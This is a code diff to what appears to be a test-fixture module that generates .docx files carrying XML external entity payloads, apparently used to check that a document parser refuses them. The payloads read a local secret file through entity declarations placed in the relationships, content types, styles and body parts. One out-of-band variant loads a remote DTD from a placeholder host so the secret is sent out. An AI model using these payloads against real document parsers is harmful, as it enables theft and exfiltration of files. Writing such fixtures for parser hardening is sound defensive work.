@@ -191,25 +191,31 @@ def xxe_document(secret: Path) -> bytes:
     return _docx(_document(_para("Term: &leak;"), head=_xxe(secret)))
 
 
+def _leak(xml: bytes, before: bytes) -> bytes:
+    """The part with an entity reference as text in front of its first `before` element."""
+    return xml.replace(before, b"&leak;" + before, 1)
+
+
 def xxe_package_rels(secret: Path) -> bytes:
     """An external entity in the package relationships (read before the body)."""
     head = f'<!DOCTYPE Relationships [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
-    return _docx(rels=_rels(("officeDocument", "word/document.xml&leak;", False), head=head))
+    return _docx(rels=_leak(_rels(("officeDocument", "word/document.xml", False), head=head),
+                            b"<Relationship "))  # fmt: skip
 
 
 def xxe_content_types(secret: Path) -> bytes:
     """An external entity in [Content_Types].xml."""
     head = f'<!DOCTYPE Types [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
-    return _docx(types=_types(("word/x&leak;.xml", "application/xml"), head=head))
+    return _docx(types=_leak(_types(head=head), b"<Default "))
 
 
 def xxe_parameter_entity(secret: Path) -> bytes:
-    """A parameter entity: the out-of-band exfiltration form, expanded inside the DTD."""
+    """The out-of-band form: parameter entities load the secret and a remote DTD that sends it."""
     head = (
         f'<!DOCTYPE w:document [<!ENTITY % file SYSTEM "{secret.as_uri()}">'
-        f"<!ENTITY % send \"<!ENTITY exfil SYSTEM '{REMOTE}?%file;'>\">%send;]>"
+        f'<!ENTITY % dtd SYSTEM "{REMOTE}.dtd">%dtd;]>'
     )
-    return _docx(_document(_para("&exfil;"), head=head))
+    return _docx(_document(_para("&send;"), head=head))
 
 
 def xxe_utf16(secret: Path) -> bytes:
@@ -223,8 +229,8 @@ def xxe_styles(secret: Path) -> bytes:
     """An external entity in a secondary part (styles), read after the body."""
     styles = (
         f'{_DECLARATION}<!DOCTYPE w:styles [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
-        f'<w:styles xmlns:w="{W_NS}"><w:style w:styleId="a"><w:name w:val="&leak;"/></w:style>'
-        "</w:styles>"
+        f'<w:styles xmlns:w="{W_NS}"><w:style w:styleId="a"><w:name w:val="a"/></w:style>'
+        "&leak;</w:styles>"
     ).encode()
     return _docx(
         None,
@@ -236,7 +242,7 @@ def xxe_styles(secret: Path) -> bytes:
 def xxe_document_rels(secret: Path) -> bytes:
     """An external entity in the body's relationships."""
     head = f'<!DOCTYPE Relationships [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
-    rels = _rels(("styles", "styles&leak;.xml", False), head=head)
+    rels = _leak(_rels(("styles", "styles.xml", False), head=head), b"<Relationship ")
     return _docx(None, ("word/_rels/document.xml.rels", rels))
 
 
